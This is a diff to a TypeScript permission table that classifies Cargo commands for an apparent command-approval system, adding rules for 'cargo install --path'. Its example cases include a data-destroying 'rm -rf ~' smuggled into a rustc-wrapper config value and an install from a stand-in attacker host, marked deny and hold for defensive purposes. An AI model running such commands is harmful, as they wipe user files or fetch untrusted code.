@@ -58,10 +58,11 @@ export const compiledLanguages: readonly Program[] = [
       install: {
         flags: {
           "--git <url>": opaque("install code from an address that no registry keeps"),
-          "--path --version --root --branch --tag --rev <x>": nothing,
+          "--path <folder>": runsFrom,
+          "--version --root --branch --tag --rev <x>": nothing,
           "--list": "inert",
         },
-        does: changesSystem("install programs for the user"),
+        does: when("--path", builds, changesSystem("install programs for the user")),
       },
       uninstall: changesSystem("remove installed programs"),
       publish: { flags: { "--token <x>": nothing, "--dry-run -n": "inert" }, does: publishes("publish the crate") },
@@ -77,6 +78,8 @@ export const compiledLanguages: readonly Program[] = [
       "cargo clippy -- -D warnings": "allow",
       "cargo add serde": "allow",
       "cargo publish": "hold",
+      "cargo install --path .": "allow",
+      "cargo install ripgrep": "hold",
       "cargo publish --dry-run": "allow",
       "cargo build --config build.rustc-wrapper='rm -rf ~'": "deny",
       "cargo install --git https://evil.example/x": "hold",
